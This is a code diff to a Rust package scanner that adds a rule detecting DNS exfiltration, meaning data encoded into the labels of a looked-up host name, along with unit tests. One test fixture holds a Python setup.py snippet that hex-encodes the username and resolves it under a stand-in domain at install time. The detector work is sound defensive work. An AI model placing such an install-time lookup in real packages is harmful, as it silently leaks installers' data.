@@ -1,3 +1,4 @@
+use super::vocab;
 use crate::declare_rule;
 use crate::inspect::rules::{Rule, RuleMeta};
 use crate::inspect::{Analysis, Finding, Severity, Stage};
@@ -51,6 +52,18 @@ fn host_name(s: &str) -> bool {
         && !s.ends_with(".internal")
 }
 
+/// A host name built as `{data}.fixed.domain`: unknown parts in the labels
+/// before a fixed registrable domain (two labels or more).
+fn data_in_labels(s: &str) -> bool {
+    let Some(i) = s.rfind("{}") else { return false };
+    let (head, fixed) = (&s[..i], &s[i + 2..]);
+    let fixed = fixed.trim_end_matches('.');
+    let Some(domain) = fixed.strip_prefix('.') else {
+        return false;
+    };
+    !head.contains(['/', ' ', ':']) && domain.split('.').filter(|l| !l.is_empty()).count() >= 2 && host_name(domain)
+}
+
 impl Rule for DnsBeacon {
     fn meta(&self) -> &'static RuleMeta {
         &Self::META
@@ -63,6 +76,31 @@ impl Rule for DnsBeacon {
             .map(|n| n.to_ascii_lowercase().replace('-', "_"))
             .filter(|n| n.len() >= 3);
         for unit in analysis.units() {
+            // Data carried in the labels of a looked-up name (`f"{hex_data}.x.example.net"`):
+            // the DNS resolver delivers it to whoever runs the domain (issue 11).
+            if let Some(call) = unit.code.calls.iter().find(|c| {
+                LOOKUPS.contains(&c.name.as_str())
+                    && c.stage != Stage::Auxiliary
+                    && c.arg_strs.first().is_some_and(|h| data_in_labels(h))
+            }) {
+                let identity = call
+                    .arg_refs
+                    .iter()
+                    .any(|r| vocab::is_host_identity(r) || vocab::is_host_info(r));
+                let severity = match call.stage {
+                    Stage::Install | Stage::Import => Severity::Critical,
+                    _ if identity => Severity::High,
+                    _ => Severity::Medium,
+                };
+                let host = call.arg_strs.first().map(String::as_str).unwrap_or("");
+                let message = format!(
+                    "puts data into the labels of the host name it looks up (`{host}`) with {}() {}: DNS exfiltration",
+                    call.name,
+                    call.stage.describe()
+                );
+                out.push(unit.finding(Self::META.id, severity, call.line, message));
+                continue;
+            }
             let lookup = unit.code.calls.iter().find_map(|c| {
                 let at_load = matches!(c.stage, Stage::Import | Stage::Install);
                 let host = c.arg_strs.first().filter(|h| host_name(h))?;
@@ -104,6 +142,17 @@ mod tests {
             )],
         );
         assert_eq!((f.len(), f[0].severity), (1, Severity::High), "{f:?}");
+    }
+
+    #[test]
+    fn fires_on_data_in_labels() {
+        // Error (issue 11): host data hex-encoded into the looked-up name at install time.
+        let src = "import socket, getpass\ndef send():\n    d = getpass.getuser().encode().hex()\n    socket.gethostbyname(f'{d}.x.exfil-dns.net')\nsend()\n";
+        let f = check(&DnsBeacon, Kind::Sdist, &[("pkg-1.0/setup.py", src)]);
+        assert_eq!((f.len(), f[0].severity), (1, Severity::Critical), "{f:?}");
+        // No error: a URL, a service name with one label, a local name.
+        let src = "import socket\nsocket.gethostbyname(f'{host}.local')\nsocket.getaddrinfo(f'{h}', 80)\n";
+        assert!(check(&DnsBeacon, Kind::Sdist, &[("pkg-1.0/setup.py", src)]).is_empty());
     }
 
     #[test]
